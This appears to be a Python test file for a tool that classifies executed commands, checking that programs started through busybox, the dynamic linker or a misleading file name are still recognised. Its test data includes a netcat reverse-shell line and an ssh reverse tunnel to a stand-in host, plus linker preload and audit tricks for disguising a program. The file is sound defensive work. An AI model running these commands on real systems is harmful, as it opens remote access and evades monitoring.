"""The name that a file is started by, where it is not the file's own."""

from __future__ import annotations

from callwarden.call import ExecCall
from callwarden.engine import bundle
from callwarden.facts.context import Context
from callwarden.facts.derive import derive
from callwarden.facts.model import Command

CONTEXT = Context(tables=bundle.load().tables)
TUNNEL = ("-N", "-R", "8080:localhost:22", "host.example")


def commands(exe: str, *argv: str) -> list[Command]:
    return derive(ExecCall(id="c", kind="exec", argv=list(argv), exe=exe), CONTEXT).commands


def actions(exe: str, *argv: str) -> set[str]:
    return {action for command in commands(exe, *argv) for action in command.actions}


def test_a_program_of_many_names_is_the_one_it_is_called_by() -> None:
    assert "reverse_shell" in actions("/bin/busybox", "nc", "host.example", "80", "-e", "/bin/sh")
    assert "nc" in [command.program for command in commands("/bin/busybox", "/usr/bin/nc", "-l", "-p", "80")]
    assert "destroy" not in actions("/bin/busybox", "ls", "-la", ".")
    assert [c.program for c in commands("/usr/bin/coreutils", "rm", "-r", "x")] == ["coreutils", "rm"]


def test_the_dynamic_linker_starts_what_it_is_given() -> None:
    linker = "/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
    assert "reverse_tunnel" in actions(linker, "x", "/usr/bin/ssh", *TUNNEL)
    assert "reverse_tunnel" in actions(linker, "x", "--argv0", "cat", "--preload", "./x.so", "/usr/bin/ssh", *TUNNEL)
    assert "run" in actions(linker, "x", "--audit", "./x.so", "/bin/true")


def test_an_unknown_file_by_the_name_of_a_known_program_is_both() -> None:
    assert "reverse_tunnel" in actions("/workspace/notes", "ssh", *TUNNEL)
    found = commands("/workspace/notes", "cat", "a")
    assert [(command.program, command.kind) for command in found] == [("notes", "path"), ("cat", "name")]


def test_a_known_program_is_not_made_another_by_its_name() -> None:
    assert [command.program for command in commands("/usr/bin/ssh", "cat", "a")] == ["ssh"]
    assert [command.program for command in commands("/usr/bin/bash", "-bash")] == ["bash"]
